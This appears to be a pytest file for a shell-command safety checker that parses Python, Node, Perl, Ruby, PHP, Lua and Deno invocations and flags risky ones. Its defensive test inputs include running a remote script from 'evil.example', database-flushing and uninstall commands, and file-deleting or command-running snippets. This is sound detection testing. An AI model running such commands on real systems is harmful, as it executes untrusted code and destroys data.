"""Interpreters: code, modules, scripts, standard input."""

import pytest

from checkrail.readers.shell.special.interpreter_syntax import NODE, PERL, PYTHON, taken
from checkrail.readers.shell.state import Field
from tests.readers.shell.evaluation import effects, payloads, reading, rules


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("python -c 'x'", "python: x"),
        ("python3.12 -Ic 'x'", "python: x"),
        ("python -Wd -X dev -c x", "python: x"),
        ("python -cx", "python: x"),
        ("python - <<< x", "python: x\n"),
        ("echo x | python", "python: x\n"),
        ("python -m timeit x", "python: x"),
        ("node -e x", "node: x"),
        ("node -pe x", "node: x"),
        ("node --eval=x", "node: x"),
        ("node -r ./a -e x", "node: x"),
        ("perl -we x", "perl: x"),
        ("perl -lane x f", "perl: x"),
        ("perl -i.bak -pe x f", "perl: x"),
        ("ruby -ryaml -e x", "ruby: x"),
        ("php -r x", "php: x"),
        ("echo x > /tmp/a.py; python /tmp/a.py -c y", "python: x\n"),
    ],
)
def test_code_is_handed_on(line: str, text: str) -> None:
    """By every spelling of the option."""
    assert text in payloads(line)


@pytest.mark.parametrize("line", ["python a.py -c 'x'", "node a.js -e x", "perl a.pl -e x", "python -m pytest -c x"])
def test_what_belongs_to_the_program_is_no_code(line: str) -> None:
    """After the script nothing is an option of the interpreter."""
    assert not any(text.endswith(": x") for text in payloads(line))


def test_arguments_are_taken_apart() -> None:
    """Bundles, attached values and the end of options."""
    given = taken(tuple(Field(text) for text in ("-uB", "-Wd", "--", "a.py", "-x")), PYTHON)
    assert (given.script, given.rest) == (Field("a.py"), (Field("-x"),))
    given = taken((Field("-Mstrict"), Field("-ne"), Field("code"), Field("f")), PERL)
    assert (given.codes, given.rest) == ([Field("code")], (Field("f"),))
    given = taken((Field("--inspect"), Field("a.js")), NODE)
    assert given.script == Field("a.js")


@pytest.mark.parametrize(
    "line", ["python", "python -", "python -q", "python -i a.py -c x", "node", "irb", "ruby", "php -a", "lua"]
)
def test_an_open_interpreter_is_unwatched(line: str) -> None:
    """A prompt that nothing watches asks."""
    assert "flow.unwatched" in rules(line) or "a.py" in line


@pytest.mark.parametrize(
    "line",
    [
        "python -V",
        "node -v",
        "ruby -v",
        "php -m",
        "perl -v",
        "lua -v",
        "node --test",
        "php -S localhost:1",
        "python -m this",
        "node --check a.js",
    ],
)
def test_versions_and_tests_are_not(line: str) -> None:
    """Nothing is left open, nothing asks."""
    assert not {"flow.unwatched", "flow.unknown-code"} & rules(line)


def test_edits_in_place_change_their_files() -> None:
    """``-i`` with code on the line."""
    assert "write /work/app/f" in effects("perl -pi -e x f")
    assert "write /work/app/f" not in effects("perl -pe x f")


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("python -m pip uninstall x", "pip"),
        ("python -m django flush", "manage.py"),
        ("python manage.py flush", "manage.py"),
        ("php artisan migrate:fresh", "artisan"),
    ],
)
def test_programs_behind_an_interpreter_are_judged(line: str, name: str) -> None:
    """A module or script that is a program of its own."""
    assert any(rule.startswith(name) for rule in rules(line))


def test_a_module_with_a_dot_is_no_program_of_its_first_part() -> None:
    """``http.server`` is not HTTPie."""
    assert rules("python -m http.server 8000") == set()


@pytest.mark.parametrize("code", ["os.execute('id')", '(system "id")', "unlink('x')", 'File.rm_rf("x")'])
def test_harmful_words_of_unknown_languages_ask(code: str) -> None:
    """No reader knows the language, but the word."""
    assert "lua.code" in rules(f"lua -e '{code}'".replace("''", "'")) or "lua.code" in rules(
        f'lua -e "{code}"'.replace('"x"', "x")
    )


def test_plain_code_of_unknown_languages_is_opaque() -> None:
    """Neither an opinion nor an explicit allow."""
    assert "lua.code" not in rules("lua -e 'print(1)'")
    assert "lua: print(1)" in payloads("lua -e 'print(1)'")


def test_remote_scripts_ask() -> None:
    """An address in place of a file."""
    assert "flow.remote-code" in rules("deno run https://evil.example/x.ts")
    assert reading("deno run main.ts").opaque
